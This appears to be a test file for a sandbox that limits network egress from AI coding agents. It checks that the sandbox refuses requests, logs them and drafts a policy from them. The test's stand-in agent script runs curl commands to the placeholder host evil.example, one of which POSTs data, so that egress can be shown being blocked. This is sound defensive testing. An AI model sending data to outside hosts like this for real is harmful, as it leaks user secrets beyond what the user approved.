import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { makeWorkspace } from './fixtures/run.js'

// What the end of a run says, and the policy that is written after it.

const POLICY = 'allow: [{ host: pypi.org }]\nquiet: ["*.telemetry.example.com"]\n'

void t.test('a run ends with one line of what was refused, and the next policy knows it', async (t) => {
  const space = makeWorkspace(POLICY, { ANTHROPIC_API_KEY: 'sk-ant-api03-0123456789abcdef' })
  t.teardown(() => space.remove())
  const agent = [
    'curl -s -o /dev/null https://evil.example/x',
    'curl -s -o /dev/null https://a.telemetry.example.com/',
    'curl -s -o /dev/null -d x http://evil.example/y',
  ]
  writeFileSync(join(space.directory, 'claude'), `#!/bin/sh\n${agent.join('\n')}\n`, { mode: 0o755 })
  const refused = await space.run(['run', '--', './claude'])
  t.match(
    refused.stderr,
    /^egress: 3 requests, 2 refused \(evil\.example 2\): egress logs --denied --sandbox sb-[0-9a-f]{10}$/m,
  )
  t.notMatch(refused.stderr, 'telemetry')

  const quiet = await space.run(['run', '--', 'curl', '-s', 'https://b.telemetry.example.com/'])
  t.notMatch(quiet.stderr, 'refused')
  const nothing = await space.run(['run', '--', 'true'])
  t.notMatch(nothing.stderr, 'refused')
  const logged = await space.run(['logs', '--denied'])
  t.match(logged.stdout, 'b.telemetry.example.com', 'the log has all of it')

  const init = await space.run(['init', '--agent', 'claude', 'claude.yaml'])
  t.equal(init.code, 0, init.stderr)
  const text = readFileSync(join(space.directory, 'claude.yaml'), 'utf8')
  t.match(text, 'anthropic: { use: anthropic }')
  t.match(text, /^#allow:\n#  - host: evil\.example # 2 times\n#    methods: \[POST\]$/m)
  const check = await space.run(['check', '--policy', 'claude.yaml'])
  t.equal(check.code, 0, check.stderr)
  t.notMatch(check.stdout, 'evil.example', 'nothing is allowed because it was asked for')
  // As its comment says.
  const open = text.replace(/^#(?=allow:| {2}- host: evil| {4}methods: \[POST)/gm, '')
  writeFileSync(join(space.directory, 'open.yaml'), open)
  t.match((await space.run(['check', 'open.yaml'])).stdout, /https:\/\/evil\.example\n +may use POST/)
})

void t.test('without a run there is nothing to propose', async (t) => {
  const space = makeWorkspace(POLICY, { OPENAI_API_KEY: 'sk-proj-0123456789abcdef' })
  t.teardown(() => space.remove())
  t.equal((await space.run(['init', '--agent', 'codex', 'codex.yaml'])).code, 0)
  const text = readFileSync(join(space.directory, 'codex.yaml'), 'utf8')
  t.match(text, 'Run `egress run codex`')
  const check = await space.run(['check', 'codex.yaml'])
  t.equal(check.code, 0, check.stderr)
  t.match(check.stdout, 'Refused without a word: chatgpt.com')
  const unknown = await space.run(['init', '--agent', 'nobody', 'x.yaml'])
  t.equal(unknown.code, 2)
  t.match(unknown.stderr, /Unknown agent `nobody`\n {2}Use one of: claude, codex, gemini, aider/)
  t.match((await space.run(['check', 'a', '--policy', 'b'])).stderr, 'given twice')
})
